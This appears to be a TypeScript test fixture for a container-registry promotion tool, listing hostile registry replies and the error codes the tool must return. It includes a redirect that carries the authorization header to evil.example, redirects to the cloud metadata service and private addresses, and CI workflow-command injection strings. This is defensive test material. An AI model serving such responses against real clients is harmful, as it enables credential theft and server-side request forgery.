import type { Lie } from '../registries/lying-registry.ts';
import type { Reply } from '../registries/scripted-server.ts';
import { challenge, type Hosts, TOKEN } from './hostile-hosts.ts';
import { endless, MEGABYTE, raw } from './lie.ts';
import { brackets, ECHO, type ProcessLie, registry, TAG } from './process-lie.ts';
import { REALMS, TOKENS } from './process-lies-auth.ts';
import { others } from './process-lies-modes.ts';
import { EVIL } from './sound.ts';

const EVIL_CDN = 'CONNECT evil.example:443';

/** A response to the first read of a promotion. */
const first = (reply: Lie): Hosts => registry(`GET manifests/${TAG}`, reply);
const answers = (reply: Reply): Hosts => first(() => reply);
const errors = (status: number, body: unknown): Hosts =>
  answers({
    status,
    headers: { 'content-type': 'application/json' },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });
const redirect = (location: string, hosts: Hosts = {}): Hosts => ({
  ...answers({ status: 307, headers: { location } }),
  ...hosts,
});

const BODIES: ProcessLie[] = [
  {
    name: 'says workflow commands, markup and escapes',
    hosts: errors(403, { errors: [{ code: 'DENIED', message: EVIL, detail: EVIL }] }),
    code: 'FORBIDDEN',
  },
  {
    name: 'says them as a code',
    hosts: errors(400, { errors: [{ code: EVIL, message: '' }] }),
    code: 'REGISTRY_REFUSED',
  },
  { name: 'says them as text', hosts: errors(400, EVIL), code: 'REGISTRY_REFUSED' },
  { name: 'says them as a page', hosts: errors(418, `<html><body>${EVIL}</body></html>`), code: 'REGISTRY_REFUSED' },
  {
    name: 'says them in its reason',
    hosts: answers(raw('HTTP/1.1 400 ::error::injected\r\ncontent-length: 0\r\n\r\n')),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'says a return alone',
    hosts: errors(400, 'x\r::error::injected\r##[error]injected\r'),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'says no UTF-8',
    hosts: answers({ status: 400, body: Buffer.from([0xff, 0xfe, 0x3a, 0x3a, 0x80, 0xed, 0xa0, 0x80]) }),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'says that it is immutable, of a read',
    hosts: errors(400, { errors: [{ code: 'TAG_IMMUTABLE', message: 'immutable' }] }),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'says objects for texts',
    hosts: errors(400, { errors: [{ code: { toString: 1 }, message: { toString: 1 }, detail: [] }] }),
    code: 'REGISTRY_REFUSED',
  },
  { name: 'says no list of errors', hosts: errors(400, { errors: { 0: { code: 'X' } } }), code: 'REGISTRY_REFUSED' },
  { name: 'says null', hosts: errors(400, null), code: 'REGISTRY_REFUSED' },
  {
    name: 'says brackets',
    hosts: errors(400, `{"errors":[{"detail":${brackets(30_000)}}]}`),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'sends an error without end',
    hosts: answers((response) => {
      response.statusCode = 400;
      endless(MEGABYTE)(response);
    }),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'asks for patience without end',
    hosts: answers({ status: 429, headers: { 'retry-after': '999999999' } }),
    code: 'RATE_LIMITED',
  },
  {
    name: 'asks for patience until the year 9999',
    hosts: answers({ status: 503, headers: { 'retry-after': 'Fri, 31 Dec 9999 23:59:59 GMT' } }),
    code: 'REGISTRY_UNAVAILABLE',
  },
  {
    name: 'sends back all secrets as an error',
    hosts: errors(403, { errors: [{ code: 'DENIED', message: ECHO }] }),
    code: 'FORBIDDEN',
  },
  { name: 'sends back all secrets as text', hosts: errors(400, ECHO), code: 'REGISTRY_REFUSED' },
  {
    name: 'sends back what it was shown, in its place',
    hosts: first(({ headers }) => ({
      status: 307,
      headers: { location: `http://evil.example/${encodeURIComponent(headers.authorization ?? '')}` },
    })),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'sends back a secret as a digest',
    hosts: first(({ path }, { body }) => ({
      headers: { 'docker-content-digest': TOKEN, link: path },
      body: body.subarray(1),
    })),
    code: 'REGISTRY_REFUSED',
  },
];

const REDIRECTS: ProcessLie[] = [
  {
    name: 'another host, which sends other bytes',
    hosts: redirect('https://evil.example/x', {
      'evil.example': (_, { body }) => ({ body: Buffer.concat([body, Buffer.from('x')]) }),
    }),
    code: 'REGISTRY_REFUSED',
    alsoAsked: [EVIL_CDN],
  },
  {
    name: 'another host, which asks for credentials',
    hosts: redirect('https://evil.example/x', { 'evil.example': () => challenge('https://evil.example/token') }),
    code: 'UNAUTHORIZED',
    alsoAsked: [EVIL_CDN],
  },
  {
    name: 'another host, which asks for a password',
    hosts: redirect('https://evil.example/x', {
      'evil.example': () => ({ status: 401, headers: { 'www-authenticate': 'Basic realm="x"' } }),
    }),
    code: 'UNAUTHORIZED',
    alsoAsked: [EVIL_CDN],
  },
  {
    name: 'another host, which redirects to this machine',
    hosts: redirect('https://evil.example/x', {
      'evil.example': () => ({ status: 302, headers: { location: 'https://127.0.0.1:9/x' } }),
    }),
    code: 'REGISTRY_REFUSED',
    alsoAsked: [EVIL_CDN],
  },
  {
    name: 'another host, which redirects to itself for ever',
    hosts: redirect('https://evil.example/x', {
      'evil.example': ({ path }) => ({ status: 302, headers: { location: `${path}x` } }),
    }),
    code: 'REGISTRY_REFUSED',
    alsoAsked: [EVIL_CDN],
  },
  { name: 'itself by HTTP, which is not done', hosts: redirect('http://registry.example/x'), code: 'NOT_FOUND' },
  { name: 'another host by HTTP', hosts: redirect('http://evil.example/x'), code: 'REGISTRY_REFUSED' },
  { name: 'this machine', hosts: redirect('http://127.0.0.1:9/x'), code: 'REGISTRY_REFUSED' },
  { name: 'this machine by HTTPS', hosts: redirect('https://localhost:9/x'), code: 'REGISTRY_REFUSED' },
  {
    name: 'the metadata service',
    hosts: redirect('http://169.254.169.254/latest/meta-data/iam'),
    code: 'REGISTRY_REFUSED',
  },
  {
    name: 'the metadata service by HTTPS',
    hosts: redirect('https://169.254.169.254/latest/meta-data/iam'),
    code: 'REGISTRY_REFUSED',
  },
  { name: 'a private address', hosts: redirect('https://10.0.0.1/x'), code: 'REGISTRY_REFUSED' },
  {
    name: 'a host with controls in its name',
    hosts: redirect('https://ev\til.exam\u0085ple/x'),
    code: 'REGISTRY_REFUSED',
  },
  { name: 'no URL, with escapes', hosts: redirect('https://[::error::injected\u009b31m'), code: 'REGISTRY_REFUSED' },
];

/** A response to the first write of a promotion. */
const write = (reply: Reply): Hosts => registry('PUT manifests/prod-history', () => reply);
// it is retried, or reverted; the environment's tag is never written
const WRITTEN = ['PUT manifests/prod-history', 'PUT manifests/prod-history'];
const OTHER = { 'docker-content-digest': `sha256:${'0'.repeat(64)}` };

const WRITES: ProcessLie[] = [
  { name: 'another digest', hosts: write({ status: 201, headers: OTHER }), code: 'DIGEST_MISMATCH', writes: WRITTEN },
  {
    name: 'a digest that is none',
    hosts: write({ status: 201, headers: { 'docker-content-digest': '::error::injected' } }),
    code: 'DIGEST_MISMATCH',
    writes: WRITTEN,
  },
  { name: 'success, having done nothing', hosts: write({ status: 201 }), code: 'DIGEST_MISMATCH', writes: WRITTEN },
  {
    name: 'a redirect',
    hosts: write({ status: 307, headers: { location: 'https://evil.example/x' } }),
    code: 'REGISTRY_REFUSED',
    writes: WRITTEN,
  },
  {
    name: 'success without end',
    hosts: write((response) => {
      response.statusCode = 201;
      endless(MEGABYTE)(response);
    }),
    code: 'REGISTRY_REFUSED',
    writes: WRITTEN,
  },
  { name: 'workflow commands', hosts: write({ status: 400, body: EVIL }), code: 'REGISTRY_REFUSED', writes: WRITTEN },
];

export const PROCESS_LIES: Record<string, ProcessLie[]> = {
  'says or sends': BODIES,
  'lies about who may ask': REALMS,
  'has a token server that gives': TOKENS,
  'redirects to': REDIRECTS,
  'answers a write with': WRITES,
  'lies in a read:': others(),
};

/** The hosts that may always be asked. */
export const KNOWN = ['CONNECT registry.example:443', 'CONNECT auth.example:443'];
